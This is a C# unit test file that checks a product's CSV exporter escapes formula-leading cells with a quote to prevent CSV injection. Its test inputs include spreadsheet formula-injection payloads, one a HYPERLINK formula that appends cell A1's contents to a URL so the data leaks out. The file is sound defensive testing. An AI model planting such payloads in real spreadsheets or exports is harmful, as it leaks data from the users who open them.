using System.Text;
using BulkImport.Core.Csv;
using BulkImport.Tests.Support;

namespace BulkImport.Tests.Csv;

/// <summary>
/// The one CSV writer of the product (results files, templates) escapes every cell a spreadsheet would run as a formula
/// with a leading ' (OWASP CSV injection; BAD-INPUTS 36-37), and leaves every other cell as it is.
/// </summary>
public sealed class CsvExportTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://x?\"&A1,\"x\")")]
    [InlineData("=1+2")]
    [InlineData("+1")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1")]
    [InlineData("\r=1")]
    [InlineData("-")]
    public async Task A_cell_starting_with_a_formula_character_is_written_with_a_leading_quote(string value)
    {
        var (raw, cells) = await WriteAsync(["Row Number", "Value"], ["2", value]);

        cells[1][1].Should().Be("'" + value);
        raw.Should().Contain("'" + value[..1]);
    }

    [Fact]
    public async Task An_injection_split_across_a_separator_stays_one_escaped_cell()
    {
        var (raw, cells) = await WriteAsync(["Value"], ["=1+2\";=1+2"]);

        raw.Should().Contain("\"'=1+2\"\";=1+2\"");
        cells[1].Should().Equal("'=1+2\";=1+2");
    }

    [Theory]
    [InlineData("Smith")]
    [InlineData("O'Connor")]
    [InlineData("a=b")]
    [InlineData("1-2")]
    [InlineData("ann@example.org")]
    [InlineData("")]
    public async Task Other_cells_are_written_as_they_are(string value)
    {
        var (_, cells) = await WriteAsync(["Value"], [value]);

        cells[1].Should().Equal(value);
    }

    [Fact]
    public async Task Files_start_with_a_byte_order_mark_and_end_lines_with_crlf()
    {
        await using var stream = new MemoryStream();
        await using (var writer = CsvExport.Create(stream))
        {
            writer.WriteHeader(["A", "B"]);
            await writer.WriteRecordAsync(["1", "2"], default);
        }

        stream.ToArray().Should().StartWith(new byte[] { 0xEF, 0xBB, 0xBF });
        Encoding.UTF8.GetString(stream.ToArray()).TrimStart('\uFEFF').Should().Be("A,B\r\n1,2\r\n");
    }

    private static async Task<(string Raw, List<string[]> Cells)> WriteAsync(string[] header, string[] record)
    {
        await using var stream = new MemoryStream();
        await using (var writer = CsvExport.Create(stream))
        {
            writer.WriteHeader(header);
            await writer.WriteRecordAsync(record, default);
        }

        var raw = Encoding.UTF8.GetString(stream.ToArray()).TrimStart('\uFEFF');
        return (raw, Rfc4180.Parse(raw));
    }
}
